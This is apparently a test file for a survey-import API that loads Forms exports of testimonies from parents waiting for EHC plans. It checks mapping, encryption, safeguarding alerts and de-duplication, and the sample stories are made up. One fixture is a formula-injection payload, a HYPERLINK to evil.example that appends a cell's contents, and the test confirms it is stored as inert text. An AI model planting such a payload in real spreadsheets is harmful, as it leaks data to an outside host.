import request from 'supertest';
import {
  EMAIL_SEALED,
  FieldCipher,
  NAME_SEALED,
  STORY_SEALED,
  EXAMPLE_SURVEY_HEADERS,
} from '@roundtable/testimony';
import { bearer, countRows, expectError, withClockAt } from '../../../../test/support/fixtures';
import { formsCsv, formsWorkbook, type SurveyResponse } from '../../../../test/support/survey-export';
import { createTestApi, type TestApi } from '../../../../test/support/test-app';

/** A date cell as Forms writes it: the London wall-clock time (exceljs writes it as if UTC). */
const shown = (wallClock: string) => new Date(`${wallClock}Z`);

const FIRST_STORY =
  'We asked for an EHC needs assessment in September. Nobody answered our emails for eleven weeks, and by the time the plan came our son had missed most of Year 4.';

const RESPONSES: SurveyResponse[] = [
  {
    externalId: 1,
    startTime: shown('2026-01-10T09:12:00'),
    submittedAt: shown('2026-01-10T09:30:00'),
    email: 'anonymous',
    role: 'Parent or carer',
    area: 'Halesowen North',
    onBehalfOfYoungPerson: 'No',
    ageBand: '5 to 10',
    schoolPhase: 'Primary school',
    assessmentWaitWeeks: 30,
    planWaitWeeks: 52,
    deadline: 'No, it took longer',
    tribunal: 'No',
    themes: 'EHC plan delays;Tribunals and appeals;',
    story: FIRST_STORY,
    quoteConsent: 'You may quote my words without my name',
    contactConsent: 'No',
    shareWithAuthority: 'Yes',
    caseworkRequested: 'No',
  },
  {
    // Named, in summer (BST), with a role in the survey's own words that needs translating.
    externalId: 2,
    submittedAt: shown('2025-07-01T10:00:00'),
    email: 'Sam.Jones@example.org',
    name: 'Sam Jones',
    role: 'Mum or dad',
    // The keyword screen runs on imported stories too: this one alerts the safeguarding lead.
    story:
      'The school said they could not meet her needs, and the council said there was no other place. She has started self harming.',
    contactConsent: 'Yes',
  },
  { externalId: 3, submittedAt: shown('2026-01-11T12:00:00'), email: 'anonymous', role: 'Parent or carer' },
  { externalId: 4, email: 'anonymous', role: 'Alien', story: 'A story with a role we do not know.' },
  { externalId: 5, email: 'anonymous', assessmentWaitWeeks: 'ages', story: 'We waited for ages.' },
  {
    // The story is a formula: its saved result is imported, never evaluated. Casework asked for,
    // no quote consent given: it stays for the office only.
    externalId: 6,
    email: 'anonymous',
    role: 'Teacher or teaching assistant',
    story: { formula: 'CONCAT("We waited ","40 weeks")', result: 'We waited 40 weeks' },
    caseworkRequested: 'Yes',
  },
  // Text that a spreadsheet would take for a formula: kept as the text it is.
  { externalId: 7, email: 'anonymous', story: '=HYPERLINK("http://evil.example/?q="&A1,"Click me")' },
  // The same response twice in one file.
  { externalId: 2, email: 'anonymous', story: 'A second copy of response 2.' },
];

const MAPPING = {
  columns: { ...EXAMPLE_SURVEY_HEADERS },
  answers: [{ field: 'role', answer: 'Mum or dad', value: 'parent-carer' }],
};

describe('survey import: a Forms export uploaded, mapped, previewed and committed once', () => {
  let api: TestApi;
  let token: string;
  let cipher: FieldCipher;
  let campaignId: string;

  beforeAll(async () => {
    api = await createTestApi('testimony_imports');
    token = await api.tokenFor('organiser');
    cipher = api.app.get(FieldCipher);
    const campaign = await request(api.http)
      .post('/api/v1/campaigns')
      .set(bearer(token))
      .send({
        title: 'Waiting for an EHC plan',
        summary: 'What the wait does to families.',
        startsOn: '2026-01-01',
        endsOn: '2026-12-31',
        evidenceUse: 'Sent, anonymised, to the council.',
      })
      .expect(201);
    campaignId = campaign.body.id;
  });
  afterAll(() => api.close());

  const upload = (file: Buffer, name: string, as = token) =>
    request(api.http).post('/api/v1/testimony-imports').set(bearer(as)).attach('file', file, name);

  let importId: string;

  it('reads the export, seals its rows, and suggests a mapping from the header text', async () => {
    const res = await upload(await formsWorkbook(RESPONSES), 'SEND survey.xlsx')
      .field('campaignId', campaignId)
      .expect(201);
    importId = res.body.id;
    expect(res.body).toMatchObject({
      status: 'parsed',
      format: 'xlsx',
      campaignId,
      mappingSource: 'suggested',
    });
    expect(res.body.headers.slice(0, 6)).toEqual([
      'ID',
      'Start time',
      'Completion time',
      'Email',
      'Name',
      'Last modified time',
    ]);
    expect(res.body.mapping.columns).toEqual(EXAMPLE_SURVEY_HEADERS);
    // Answers that are our labels are matched; the survey's own words are not, yet.
    const roles = res.body.answers.find((entry: { field: string }) => entry.field === 'role').answers;
    expect(roles).toEqual(
      expect.arrayContaining([
        { answer: 'Parent or carer', rows: 2, value: 'parent-carer', by: 'label' },
        { answer: 'Mum or dad', rows: 1, value: null, by: null },
      ]),
    );
    const [raw] = await api.dataSource.query('SELECT rows FROM testimony_imports WHERE id = $1', [importId]);
    expect(raw.rows).toMatch(/^v1\./);
    expect(raw.rows).not.toContain('eleven weeks');
    expect(await countRows(api, 'testimonies')).toBe(0);
  });

  it('previews the saved mapping: every row that cannot be imported, with its row number and why', async () => {
    const res = await request(api.http)
      .post(`/api/v1/testimony-imports/${importId}/preview`)
      .set(bearer(token))
      .send({ mapping: MAPPING })
      .expect(200);
    expect(res.body.mappingSource).toBe('this-import');
    expect(res.body.counts).toEqual({
      rows: 8,
      importable: 4,
      refused: 3,
      alreadyImported: 0,
      repeatedInFile: 1,
    });
    expect(res.body.refused).toEqual([
      { row: 4, externalId: '3', problems: ['it has no story'] },
      {
        row: 5,
        externalId: '4',
        problems: [expect.stringMatching(/^Role: the answer "Alien" has no value of ours/)],
      },
      { row: 6, externalId: '5', problems: [expect.stringMatching(/"ages" is not a number of weeks/)] },
    ]);
    expect(res.body.repeatedInFile).toEqual([{ row: 9, externalId: '2' }]);
    const [first] = res.body.sample;
    expect(first).toMatchObject({
      row: 2,
      externalId: '1',
      role: 'parent-carer',
      area: 'halesowen-north',
      themes: ['ehc-plan-delays', 'tribunals-appeals'],
      assessmentWaitWeeks: 30,
      deadline: 'missed',
      quoteConsent: 'quote-anonymously',
      shareWithAuthority: true,
      hasName: false,
      hasEmail: false,
      submittedAt: '2026-01-10T09:30:00.000Z',
    });
    expect(first.excerpt.length).toBeLessThanOrEqual(120);
    expect(first).not.toHaveProperty('story');
    expect(await countRows(api, 'testimony_import_mappings')).toBe(1);
  });

  it('refuses a mapping that names no column, leaves out the story, or translates to no value of ours', async () => {
    const preview = (mapping: unknown) =>
      request(api.http)
        .post(`/api/v1/testimony-imports/${importId}/preview`)
        .set(bearer(token))
        .send({ mapping });
    const { story: _story, ...withoutStory } = EXAMPLE_SURVEY_HEADERS;
    expect(expectError(await preview({ columns: withoutStory }), 400)).toContain(
      'mapping.columns.story is required',
    );
    expect(
      expectError(await preview({ columns: { ...EXAMPLE_SURVEY_HEADERS, role: 'Favourite colour' } }), 400),
    ).toContain('mapping.columns.role names no column');
    expect(
      expectError(
        await preview({
          columns: EXAMPLE_SURVEY_HEADERS,
          answers: [{ field: 'role', answer: 'Mum', value: 'mum' }],
        }),
        400,
      ),
    ).toContain('mapping.answers.0.value must be one of parent-carer');
    expectError(await preview({ columns: { ...EXAMPLE_SURVEY_HEADERS, colour: 'ID' } }), 400);
    // The mapping saved before is still the one used.
    const res = await request(api.http)
      .get(`/api/v1/testimony-imports/${importId}/preview`)
      .set(bearer(token))
      .expect(200);
    expect(res.body.mapping).toEqual(MAPPING);
  });

  it('commits every valid row in one go: sealed, source import, consent from the sheet or the safest', async () => {
    const before = await countRows(api, 'audit_log');
    const res = await request(api.http)
      .post(`/api/v1/testimony-imports/${importId}/commit`)
      .set(bearer(token))
      .expect(200);
    expect(res.body).toMatchObject({ imported: 4, alreadyImported: 0, repeatedInFile: 1, refused: 3 });
    const rows: Array<Record<string, string | null>> = await api.dataSource.query(
      `SELECT t.*, (SELECT array_agg(th.slug ORDER BY th.slug) FROM testimony_themes tt JOIN themes th ON th.id = tt.theme_id WHERE tt.testimony_id = t.id) AS themes
       FROM testimonies t ORDER BY external_ref`,
    );
    const byId = new Map(rows.map((row) => [row.external_ref!.split(':').at(-1), row]));
    expect([...byId.keys()].sort()).toEqual(['1', '2', '6', '7']);
    const [me] = await api.dataSource.query("SELECT id FROM users WHERE name = 'Olu Organiser' LIMIT 1");
    for (const row of rows) {
      expect(row).toMatchObject({ source: 'import', campaign_id: campaignId, entered_by_id: me.id });
      expect(row.external_ref).toMatch(/^forms:[0-9a-f]{32}:\d+$/);
      expect(row.story).toMatch(/^v1\./);
    }
    const open = (row: Record<string, string | null>) => ({
      story: STORY_SEALED.open(cipher, row.id!, row.story!),
      name: NAME_SEALED.open(cipher, row.id!, row.name),
      email: EMAIL_SEALED.open(cipher, row.id!, row.email),
    });
    expect(open(byId.get('1')!)).toEqual({ story: FIRST_STORY, name: null, email: null });
    expect(byId.get('1')).toMatchObject({
      role: 'parent-carer',
      quote_consent: 'quote-anonymously',
      themes: ['ehc-plan-delays', 'tribunals-appeals'],
    });
    expect(open(byId.get('2')!)).toMatchObject({ name: 'Sam Jones', email: 'sam.jones@example.org' });
    expect(byId.get('2')).toMatchObject({
      role: 'parent-carer',
      contact_consent: true,
      quote_consent: 'office-only',
    });
    expect(new Date(byId.get('2')!.submitted_at!).toISOString()).toBe('2025-07-01T09:00:00.000Z');
    expect(rows.filter((row) => row.safeguarding_flag !== null).map((row) => row.id)).toEqual([
      byId.get('2')!.id,
    ]);
    const alerts = await api.dataSource.query(
      `SELECT subject_id FROM notifications WHERE kind = 'safeguarding-alert'`,
    );
    expect(alerts).toEqual([{ subject_id: byId.get('2')!.id }]);
    expect(open(byId.get('6')!).story).toBe('We waited 40 weeks');
    expect(byId.get('6')).toMatchObject({
      role: 'teacher-ta',
      quote_consent: 'office-only',
      casework_requested: true,
      contact_consent: false,
    });
    expect(open(byId.get('7')!).story).toBe('=HYPERLINK("http://evil.example/?q="&A1,"Click me")');
    const [referral] = await api.dataSource.query('SELECT testimony_id FROM casework_referrals');
    expect(referral.testimony_id).toBe(byId.get('6')!.id);
    // The rows are cleared; the audit log has the counts, and nothing anyone wrote.
    const [record] = await api.dataSource.query('SELECT status, rows FROM testimony_imports WHERE id = $1', [
      importId,
    ]);
    expect(record).toEqual({ status: 'committed', rows: null });
    const audit = await api.dataSource.query("SELECT * FROM audit_log WHERE action = 'testimony.import'");
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({
      actor_id: me.id,
      subject_type: 'testimony_import',
      subject_id: importId,
    });
    expect(audit[0].detail).toMatchObject({ imported: 4, alreadyImported: 0, repeatedInFile: 1, refused: 3 });
    expect(JSON.stringify(audit)).not.toMatch(/Sam|example\.org|waited/i);
    expect(await countRows(api, 'audit_log')).toBe(before + 1);
  });

  it('shows what a commit added, and refuses a second commit or preview of it', async () => {
    const res = await request(api.http)
      .get(`/api/v1/testimony-imports/${importId}/commit`)
      .set(bearer(token))
      .expect(200);
    expect(res.body).toMatchObject({
      id: importId,
      status: 'committed',
      result: { imported: 4, refused: 3 },
    });
    expectError(
      await request(api.http).post(`/api/v1/testimony-imports/${importId}/commit`).set(bearer(token)),
      409,
    );
    expectError(
      await request(api.http).get(`/api/v1/testimony-imports/${importId}/preview`).set(bearer(token)),
      409,
    );
  });

  it('offers the saved mapping for the same survey again, and a re-import adds nothing twice', async () => {
    const again = await upload(await formsWorkbook(RESPONSES), 'SEND survey (1).xlsx').expect(201);
    expect(again.body).toMatchObject({ mappingSource: 'saved', mapping: MAPPING });
    // Both copies of response 2 are now already imported.
    expect(again.body.counts).toMatchObject({
      importable: 0,
      alreadyImported: 5,
      repeatedInFile: 0,
      refused: 3,
    });
    await request(api.http)
      .post(`/api/v1/testimony-imports/${again.body.id}/preview`)
      .set(bearer(token))
      .send({ mapping: MAPPING })
      .expect(200);
    const res = await request(api.http)
      .post(`/api/v1/testimony-imports/${again.body.id}/commit`)
      .set(bearer(token))
      .expect(200);
    expect(res.body).toMatchObject({ imported: 0, alreadyImported: 5 });
    expect(await countRows(api, 'testimonies')).toBe(4);
  });

  it('imports a later export saved as CSV: only the new response is added', async () => {
    const later = [
      ...RESPONSES,
      {
        externalId: 9,
        submittedAt: shown('2026-01-12T08:05:00'),
        email: 'anonymous',
        story: 'A new response, café included.',
      },
    ];
    const csv = await upload(formsCsv(later), 'responses.csv').expect(201);
    expect(csv.body).toMatchObject({ format: 'csv', mappingSource: 'saved' });
    expect(csv.body.counts).toMatchObject({ importable: 1, alreadyImported: 5 });
    await request(api.http)
      .post(`/api/v1/testimony-imports/${csv.body.id}/preview`)
      .set(bearer(token))
      .send({ mapping: MAPPING })
      .expect(200);
    await request(api.http)
      .post(`/api/v1/testimony-imports/${csv.body.id}/commit`)
      .set(bearer(token))
      .expect(200);
    const [row] = await api.dataSource.query(
      "SELECT id, story, submitted_at FROM testimonies WHERE external_ref LIKE '%:9'",
    );
    expect(STORY_SEALED.open(cipher, row.id, row.story)).toBe('A new response, café included.');
    expect(new Date(row.submitted_at).toISOString()).toBe('2026-01-12T08:05:00.000Z');
  });

  it('refuses to commit before a mapping is previewed, and forgets rows after a day', async () => {
    const fresh = await upload(await formsWorkbook(RESPONSES.slice(0, 1)), 'one.xlsx').expect(201);
    const state = await request(api.http)
      .get(`/api/v1/testimony-imports/${fresh.body.id}/commit`)
      .set(bearer(token))
      .expect(200);
    expect(state.body).toEqual({ id: fresh.body.id, status: 'parsed', result: null });
    // This upload's survey has a saved mapping, but commit takes only the one previewed for it.
    expect(
      expectError(
        await request(api.http).post(`/api/v1/testimony-imports/${fresh.body.id}/commit`).set(bearer(token)),
        409,
      ),
    ).toContain('POST the mapping');
    await withClockAt(api, new Date(api.clock.now().getTime() + 25 * 3_600_000), async (admin) => {
      const stale = await request(api.http)
        .get(`/api/v1/testimony-imports/${fresh.body.id}/preview`)
        .set(bearer(admin));
      expect(expectError(stale, 410)).toContain('upload the file again');
      // The next upload clears every expired import's rows.
      await upload(await formsWorkbook(RESPONSES.slice(0, 1)), 'one.xlsx', admin).expect(201);
      const [record] = await api.dataSource.query('SELECT rows FROM testimony_imports WHERE id = $1', [
        fresh.body.id,
      ]);
      expect(record.rows).toBeNull();
    });
  });
});
